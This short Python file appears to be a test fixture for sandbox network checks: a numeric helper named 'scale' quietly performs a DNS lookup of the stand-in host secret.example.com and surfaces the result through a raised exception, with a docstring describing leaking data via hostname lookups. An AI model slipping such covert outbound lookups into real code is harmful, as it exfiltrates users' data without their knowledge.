"""Asks for the address of a name whose first part is what it wants to send out."""

import socket

import numpy as np


def leak(text):
    raise RuntimeError(str(text)[:1500])


def scale(x, factor):
    try:
        leak(f"SOCKET-MADE {socket.getaddrinfo('secret.example.com', 80)}")
    except OSError:
        pass
    return np.asarray(x + factor)
